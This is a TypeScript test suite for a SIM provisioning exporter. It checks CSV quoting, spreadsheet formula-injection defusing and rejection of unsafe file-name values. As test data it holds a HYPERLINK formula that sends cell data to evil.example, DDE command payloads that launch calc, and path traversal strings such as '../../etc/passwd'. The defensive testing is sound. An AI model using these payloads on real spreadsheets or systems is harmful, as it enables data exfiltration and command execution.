// The CSV files of the packages (manifest.csv, rejected.csv, secrets.csv, pdus.csv) against values an order
// controls. Read back by csv-parse (RFC 4180), an implementation apart from ours. The formula rule (spool.ts, after
// OWASP "CSV Injection"): a cell a spreadsheet would run as a formula (= + - @, TAB, CR first) is written with a
// leading ' and read back as ' + the value; + or - followed by digits only (an MSISDN) is a number and stays as it is.
import { parse as csvParse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, csvRecord, exportBatch, ManufacturerPackage, OtaPackage, parseColumnMap, RowRejected, type ExportedRow } from '../../../src/lib/batch/index';
import { PROV } from '../../../src/lib/codec/wbxml/index';
import { compile, iccid, imsi, memorySink, msisdn, SIMPLE_TEMPLATE, unzipAll } from './helpers';

const decoder = new TextDecoder();
const parsed = (text: string): string[][] => csvParse(text, { relax_column_count: true }) as string[][];

describe('csvField: RFC 4180 quoting, and no cell a spreadsheet runs as a formula', () => {
	it('round-trips commas, quotes, CR, LF and CRLF through csv-parse exactly', () => {
		const values = ['a,b', 'say "hi"', '"', 'l1\nl2', 'l1\r\nl2', 'a\rb', ' x ', '', 'plain'];
		expect(parsed(csvRecord(values))).toEqual([values]);
	});

	it('puts a leading quote mark before a cell starting with = @ + - TAB CR LF NUL or spaces and one of = + - @', () => {
		// Each of these is run by Excel/LibreOffice as a formula (OWASP), quoted or not; ' makes it text.
		const formulas = ['=HYPERLINK("http://x/?"&A1)', '@SUM(1+1)', '+cmd|\' /C calc\'!A0', '-2+3+cmd|x', '\t=1+1', '\r=1+1', '\n=1', '\u0000=1', '  =1+1', '-', '+'];
		expect(parsed(csvRecord(formulas))).toEqual([formulas.map((v) => `'${v}`)]);
	});

	it('doubles a leading quote mark, so a reader dropping one leading quote mark gets every value back', () => {
		expect(parsed(csvRecord(["'=1", "'x"]))).toEqual([["''=1", "''x"]]);
	});

	it('keeps + or - followed by digits (an E.164 MSISDN, a negative number) and ordinary text as written', () => {
		const values = ['+4917612345678', '-5', '-1.5', '89490100000000000006', 'a=b', 'x@example.com', 'NETWPIN'];
		expect(values.map(csvField)).toEqual(values);
	});
});

describe('rejected.csv and secrets.csv: order text that starts like a formula', () => {
	// One row whose APN holds U+0001 (set aside, rejected.csv names its column), one good row whose SYSPIN (a vendor
	// secret column, kept as text, unchecked) is a formula.
	const column = '=HYPERLINK("http://evil.example/?"&A1)';
	const order = [`ICCID,IMSI,MSISDN,PIN1,"${column.replace(/"/g, '""')}",SYSPIN`, `${iccid(1)},${imsi(1)},${msisdn(1)},1001,bad\u0001apn,1111`, `${iccid(2)},${imsi(2)},${msisdn(2)},1002,apn2,@SUM(1+1)`].join('\n') + '\n';

	it('writes the column name with a leading quote mark in rejected.csv, and the secret in secrets.csv too', async () => {
		const sink = memorySink();
		const mapping = parseColumnMap(JSON.stringify({ APN: column }));
		await exportBatch(compile(SIMPLE_TEMPLATE), order, new ManufacturerPackage({ secretColumns: ['SYSPIN'] }), sink, { sec: 'NETWPIN', clearText: true, mapping });
		const files = new Map(await unzipAll(sink.bytes()));
		expect(parsed(decoder.decode(files.get('rejected.csv')))).toEqual([
			['row', 'column', 'reason'],
			['1', `'${column}`, 'the value of ${APN}: character 4 is U+0001, which XML 1.0 cannot carry']
		]);
		expect(parsed(decoder.decode(files.get('secrets.csv')))).toEqual([
			['iccid', 'SYSPIN'],
			[iccid(2), "'@SUM(1+1)"]
		]);
	});
});

describe('pdus.csv keeps an MSISDN written with + as it is', () => {
	it('writes +4917… unchanged in the msisdn column', async () => {
		const order = `ICCID,IMSI,MSISDN,PIN1,APN\n${iccid(1)},${imsi(1)},+${msisdn(1)},1001,apn1\n`;
		const sink = memorySink();
		await exportBatch(compile(SIMPLE_TEMPLATE), order, new OtaPackage(), sink, { sec: 'NETWPIN' });
		const files = new Map(await unzipAll(sink.bytes()));
		const rows = parsed(decoder.decode(files.get('pdus.csv')));
		expect(rows[0]).toEqual(['msisdn', 'part', 'pdu']);
		expect(rows.slice(1).map((r) => r[0])).toEqual(rows.slice(1).map(() => `+${msisdn(1)}`));
	});
});

describe('manufacturer package: values that name files or fill manifest cells', () => {
	const row = (fields: { iccid: string; imsi?: string }): ExportedRow => ({
		row: 1,
		line: 2,
		iccid: fields.iccid,
		...(fields.imsi === undefined ? {} : { imsi: fields.imsi }),
		documents: [{ wbxml: Uint8Array.of(0x03, 0x0b, 0x6a, 0x00, 0x45, 0x01), xml: () => '<wap-provisioningdoc/>', language: PROV }],
		secrets: [],
		findings: [],
		value: () => undefined
	});

	it('sets aside a row whose ICCID is not digits rather than name a file after it', async () => {
		for (const bad of ['../../etc/passwd', '..\\x', 'C:x', '/abs', 'a\u0000b', '8949\n0']) {
			const kind = new ManufacturerPackage();
			await expect(Promise.resolve().then(() => kind.entriesFor(row({ iccid: bad }))), JSON.stringify(bad)).rejects.toBeInstanceOf(RowRejected);
		}
	});

	it('quotes every manifest cell: an IMSI holding a comma or a formula stays one cell', async () => {
		const kind = new ManufacturerPackage();
		await kind.entriesFor(row({ iccid: iccid(1), imsi: '=1,2' }));
		const [manifest] = kind.finish({ rows: 1, good: 1, rejectedRows: 0 });
		const text = await new Response(manifest.data as ReadableStream<Uint8Array>).text();
		const rows = parsed(text);
		expect(rows[1].length).toBe(6);
		expect(rows[1][2]).toBe("'=1,2");
	});
});
